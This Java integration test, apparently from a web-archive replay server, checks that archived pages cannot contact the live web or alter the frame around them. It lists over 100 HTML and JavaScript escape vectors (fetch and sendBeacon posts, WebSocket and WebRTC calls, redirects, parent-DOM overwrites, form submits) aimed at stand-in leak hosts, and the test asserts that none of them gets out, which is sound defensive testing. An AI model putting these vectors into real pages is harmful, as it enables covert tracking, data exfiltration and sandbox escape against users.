package org.pressmark.replay;

import static org.assertj.core.api.Assertions.assertThat;
import static org.pressmark.replay.CollectionFixture.bytes;

import java.io.IOException;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.pressmark.browser.Browser;
import org.pressmark.browser.Tab;

/** Pages that try every way out, in a real Chromium for which every host name leads to one catcher. */
final class EscapesIT {
    /** In markup; U stands for an address on the live web, each time another one. */
    private static final List<String> MARKUP = List.of(
            "<img src=U>", "<img src='//H/p'>", "<img srcset='U 2x'>", "<img src=x srcset='U 100w, U 200w' sizes=100vw>",
            "<picture><source srcset=U><img src=U></picture>", "<img lowsrc=U dynsrc=U longdesc=U>", "<image src=U>",
            "<input type=image src=U>", "<video src=U autoplay></video>", "<video poster=U></video>", "<audio src=U autoplay></audio>",
            "<video><source src=U><track src=U default></video>", "<embed src=U>", "<object data=U></object>", "<applet code=U archive=U></applet>",
            "<iframe src=U></iframe>", "<iframe srcdoc='<img src=U>'></iframe>", "<iframe srcdoc='<script>new Image().src=\"U\"</script>'></iframe>",
            "<script src=U></script>", "<script type=module src=U></script>", "<script type=module>import 'U'</script>",
            "<script type=importmap>{\"imports\":{\"a\":\"U\"}}</script><script type=module>import('a')</script>",
            "<link rel=stylesheet href=U>", "<link rel=preload as=image href=U>", "<link rel=preload as=script href=U>", "<link rel=prefetch href=U>",
            "<link rel=dns-prefetch href=U>", "<link rel=preconnect href=U>", "<link rel=prerender href=U>", "<link rel=modulepreload href=U>",
            "<link rel=icon href=U>", "<link rel=manifest href=U>", "<link rel=preload as=image imagesrcset='U 1x' href=U>", "<link rel='alternate stylesheet' href=U>",
            "<style>@import 'U';</style>", "<style>@import url(U);</style>", "<style>body{background:url(U)}</style>", "<style>p{background:u\\72l(U)}</style><p>x",
            "<style>@font-face{font-family:f;src:url(U)}p{font-family:f}</style><p>text", "<p style='background-image:url(U)'>x",
            "<p style='background:image-set(\"U\" 1x)'>x", "<p style='list-style:url(U);display:list-item'>x", "<p style='cursor:url(U),auto'>x",
            "<p style='border-image:url(U) 1'>x", "<p style='mask:url(U)'>x", "<p style='content:url(U)'>x", "<p style='filter:url(U#f)'>x", "<p style='shape-outside:url(U);float:left'>x",
            "<table background=U><td background=U>x</table>", "<body background=U>", "<svg><image href=U /></svg>", "<svg><image xlink:href=U /></svg>",
            "<svg><use href='U#a'/></svg>", "<svg><feImage href=U /></svg>", "<svg><rect fill='url(U#g)' width=9 height=9 /></svg>", "<svg><script href=U></script></svg>",
            "<svg><style>*{fill:url(U)}</style><rect width=9 height=9 /></svg>", "<svg><foreignObject><img src=U></foreignObject></svg>",
            "<svg><image><set attributeName=href to=U begin=0s /></image></svg>", "<svg><animate attributeName=href values=U href=#i /></svg>",
            "<math href=U><mi>x</mi></math>", "<frameset><frame src=U></frameset>", "<portal src=U></portal>", "<bgsound src=U>", "<isindex action=U>",
            "<!--[if gte IE 5]><img src=U><![endif]-->", "<noscript><img src=U></noscript>", "<template><img src=U></template>",
            "<img src='HT\nTP://H/p'>", "<img src='http&colon;//H/p'>", "<img src='\\\\H/p'>", "<img src='http:\\\\H/p'>", "<img/src=U/onerror=1>",
            "<base href='http://H/'><img src=relative>", "<meta http-equiv=link content='<U>; rel=preload; as=image'>",
            "<meta http-equiv=Content-Security-Policy content='default-src *; report-uri U'>", "<a href=U ping=U id=ping>x</a><script>document.getElementById('ping').click()</script>",
            "<form action=U id=f1></form><script>document.getElementById('f1').submit()</script>", "<form id=f2><button formaction=U id=b2></form><script>document.getElementById('b2').click()</script>",
            "<form action=U method=post target=_blank id=f3></form><script>document.getElementById('f3').submit()</script>",
            "<iframe src='data:text/html,<img src=U>'></iframe>", "<object data='data:text/html,<script src=U></script>'></object>",
            "<embed src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"U\"/></svg>'>");

    /** In script. */
    private static final List<String> SCRIPT = List.of(
            "new Image().src='U'", "fetch('U',{mode:'no-cors'})", "fetch('U',{method:'POST',body:'x',keepalive:true,mode:'no-cors'})", "navigator.sendBeacon('U','x')",
            "var x=new XMLHttpRequest();x.open('GET','U');x.send()", "new WebSocket('ws://H/')", "new WebSocket('wss://H/')", "new EventSource('U')",
            "new Worker('U')", "new Worker(URL.createObjectURL(new Blob([\"importScripts('U');fetch('U')\"])))", "new SharedWorker('U')",
            "navigator.serviceWorker.register('U')", "import('U')", "window.open('U')", "document.write('<img src=\"U\">')",
            "document.body.innerHTML+='<img src=\"U\">'", "document.body.style.backgroundImage='url(U)'", "new Audio('U').play()",
            "var l=document.createElement('link');l.rel='preconnect';l.href='U';document.head.append(l)",
            "var l=document.createElement('link');l.rel='dns-prefetch';l.href='U';document.head.append(l)",
            "var l=document.createElement('link');l.rel='prefetch';l.href='U';document.head.append(l)",
            "var s=document.createElement('script');s.src='U';document.head.append(s)", "var s=document.createElement('style');s.textContent='@import \"U\"';document.head.append(s)",
            "var f=document.createElement('iframe');f.src='U';document.body.append(f)", "var f=document.createElement('iframe');f.srcdoc='<img src=\"U\">';document.body.append(f)",
            "new FontFace('a','url(U)').load()", "document.body.insertAdjacentHTML('beforeend','<video autoplay src=\"U\">')",
            "top.location='U'", "parent.location='U'", "parent.document.body.innerHTML='gone'", "top.frames[0].name='x'", "parent.postMessage('x','*')",
            "var s=document.createElement('script');s.type='speculationrules';s.textContent='{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"U\"]}]}';document.head.append(s)",
            "new RTCPeerConnection({iceServers:[{urls:'stun:H:PORT'}]}).createDataChannel('x')",
            "var p=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:PORT'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))",
            "var f=document.createElement('iframe');document.body.appendChild(f);var p=new f.contentWindow.RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:PORT'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))",
            "new WebTransport('https://H/')", "var w=document.createElement('a');w.href='U';w.click()", "var w=document.createElement('a');w.href='U';w.target='_top';w.click()",
            "localStorage.setItem('a','left behind')", "document.cookie='a=left behind'", "caches.open('x')", "indexedDB.open('x')", "history.pushState(0,'','/')");

    /**
     * Pages that send themselves elsewhere by script. The policy of the frame around them keeps every byte back, but
     * measured in Chromium a connection is opened beforehand, in hope, and closed again with nothing said on it.
     */
    private static final Set<String> NAVIGATING = Set.of("script", "nested", "refresh2", "location", "replace");

    private static final String SILENT = "tcp, and nothing said";

    private static Catcher catcher;
    private static ReplayServer server;
    private static ReplayServer hosted;
    private static Browser browser;
    private static int live;

    @BeforeAll
    static void serve(@TempDir Path root) throws IOException {
        catcher = new Catcher();
        StringBuilder scripts = new StringBuilder("<!DOCTYPE html><title>script</title><body>");
        SCRIPT.forEach(script -> scripts.append("<script>try{").append(outside(script)).append("}catch(e){}</script>\n"));
        StringBuilder markup = new StringBuilder("<!DOCTYPE html><title>markup</title>");
        MARKUP.forEach(tag -> markup.append(outside(tag)).append('\n'));
        CollectionFixture fixture = new CollectionFixture(root, "c")
                .html("http://h.example/markup", "2024-01-01T00:00:00Z", markup.toString())
                .html("http://h.example/script", "2024-01-01T00:00:00Z", scripts.toString())
                .html("http://h.example/refresh", "2024-01-01T00:00:00Z", outside("<meta http-equiv=refresh content='0;url=U'>"))
                .html("http://h.example/refresh2", "2024-01-01T00:00:00Z", outside("<script>document.write('<meta http-equiv=refresh content=\"0;url=U\">')</script>"))
                .html("http://h.example/location", "2024-01-01T00:00:00Z", outside("<script>location='U'</script>"))
                .html("http://h.example/replace", "2024-01-01T00:00:00Z", outside("<script>location.replace('U')</script>"))
                .html("http://h.example/nested", "2024-01-01T00:00:00Z", "<iframe src=/script></iframe><iframe src=/markup></iframe><object data=/svg></object>")
                .resource("http://h.example/svg", "2024-01-01T00:00:00Z", "image/svg+xml", bytes(outside("""
                        <?xml-stylesheet href="U"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">
                        <script>new Image().src='U';top.document.body.innerHTML='gone'</script><script href="U"/>
                        <image href="U" xlink:href="U"/><style>@import 'U'; *{fill:url(U)}</style><use href="U#a"/></svg>""")))
                .resource("http://h.example/xml", "2024-01-01T00:00:00Z", "text/xml", bytes(outside("""
                        <?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="U"?><!DOCTYPE a [<!ENTITY e SYSTEM "U">]>
                        <html xmlns="http://www.w3.org/1999/xhtml"><script>new Image().src='U';top.document.title='gone'</script><img src="U"/>&e;</html>""")))
                .response("http://h.example/headers", "2024-01-01T00:00:00Z", outside("HTTP/1.1 200 OK\nContent-Type: text/html\nLink: <U>; rel=preload; as=image\n"
                        + "Refresh: 0;url=U\nNEL: {\"report_to\":\"a\",\"max_age\":9}\nReport-To: {\"group\":\"a\",\"max_age\":9,\"endpoints\":[{\"url\":\"U\"}]}\nSet-Cookie: a=left"), bytes("<p>x"));
        fixture.html("http://h.example/parts", "2024-01-01T00:00:00Z", "<link rel=stylesheet href=/s.css><img src=/i.svg>")
                .resource("http://h.example/s.css", "2024-01-01T00:00:00Z", "text/css", bytes("body{color:rgb(1,2,3)}"))
                .resource("http://h.example/i.svg", "2024-01-01T00:00:00Z", "image/svg+xml",
                        bytes("<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'></svg>"));
        fixture.write();
        server = new ReplayServer(ReplayOptions.of(root)).start();
        hosted = new ReplayServer(ReplayOptions.of(root).onOwnHosts()).start();
        browser = Browser.start("--host-resolver-rules=MAP * 127.0.0.1:" + catcher.port() + ", EXCLUDE 127.0.0.1, EXCLUDE *.localhost",
                "--autoplay-policy=no-user-gesture-required", "--disable-popup-blocking", "--disable-features=HttpsUpgrades");
    }

    private static String outside(String text) {
        String out = text;
        for (int at = out.indexOf('U'); at >= 0; at = out.indexOf('U', at + 1)) {
            boolean alone = (at == 0 || !Character.isLetter(out.charAt(at - 1)))
                    && (at + 1 == out.length() || !Character.isLetter(out.charAt(at + 1)));
            out = alone ? out.substring(0, at) + "http://leak" + live++ + ".example/p" + out.substring(at + 1) : out;
        }
        return out.replace("//H/", "//leak" + live++ + ".example/").replace(":H:PORT", ":leak.example:PORT").replace("PORT", Integer.toString(catcher.port()));
    }

    @AfterAll
    static void stop() throws IOException {
        if (browser != null) {
            browser.close();
        }
        server.close();
        hosted.close();
        catcher.close();
    }

    private static List<String> leaks() {
        List<String> leaks = new ArrayList<>(catcher.caught());
        leaks.removeIf(text -> text.startsWith("tcp ") && !text.contains("leak")); // what the browser asks for by itself
        return leaks;
    }

    @Test
    void thereAreEnoughWays() {
        assertThat(MARKUP.size() + SCRIPT.size()).isGreaterThan(100);
    }

    @ParameterizedTest
    @ValueSource(strings = {"markup", "script", "refresh", "refresh2", "location", "replace", "nested", "svg", "xml", "headers"})
    void nothingReachesTheLiveWebOrTheFrameAround(String page) throws IOException, InterruptedException {
        staysInside(server, page);
    }

    @ParameterizedTest
    @ValueSource(strings = {"markup", "script", "location", "nested", "svg"})
    void onAHostOfItsCollectionsOwnNothingReachesThemEither(String page) throws IOException, InterruptedException {
        staysInside(hosted, page);
    }

    @Test
    void onAHostOfItsCollectionsOwnAPageHasItsParts() throws IOException {
        Tab tab = browser.open();
        tab.visit("http://127.0.0.1:" + hosted.port() + "/c/2024mp_/http://h.example/parts");

        assertThat(tab.evaluate("location.hostname")).endsWith(".localhost");
        assertThat(tab.evaluate("document.images[0].naturalWidth + getComputedStyle(document.body).color")).isEqualTo("9rgb(1, 2, 3)");
    }

    private static void staysInside(ReplayServer server, String page) throws IOException, InterruptedException {
        int before = leaks().size();
        Tab tab = browser.open();
        tab.visit("http://127.0.0.1:" + server.port() + "/c/2024/http://h.example/" + page);
        String bar = tab.evaluate("document.querySelector('header').textContent");
        Thread.sleep(2500); // nothing tells that something will never come

        List<String> leaks = new ArrayList<>(leaks().subList(before, leaks().size()));
        if (NAVIGATING.contains(page)) {
            leaks.removeIf(SILENT::equals);
        }
        assertThat(leaks).isEmpty();
        assertThat(tab.evaluate("location.href")).isEqualTo("http://127.0.0.1:" + server.port() + "/c/2024/http://h.example/" + page);
        assertThat(tab.evaluate("document.querySelector('header').textContent")).isEqualTo(bar).contains("Captured");
        assertThat(tab.evaluate("document.cookie + localStorage.length + navigator.serviceWorker.controller")).isEqualTo("0null");
    }

    @Test
    void whatAPageTriedIsCounted() throws IOException, InterruptedException {
        Tab tab = browser.open();
        tab.visit("http://127.0.0.1:" + server.port() + "/c/2024/http://h.example/script");
        String text = "";
        for (int i = 0; i < 40 && !text.contains("attempts."); i++) {
            Thread.sleep(250);
            text = new RawClient(server.port()).get("/c/attempts/20240101000000/http://h.example/script").text();
            text = text.contains("leak") ? text + "attempts." : text;
        }
        assertThat(text.toLowerCase(Locale.ROOT)).contains("leak");
    }

    /** The catcher does catch: what the walls keep in gets out without them. */
    @Test
    void withoutTheWallsItIsCaught() throws IOException {
        Tab tab = browser.open();
        tab.visit("http://leak-control.example/");

        assertThat(catcher.caught()).anyMatch(text -> text.contains("leak-control.example"));
        catcher.forget("leak-control");
    }
}
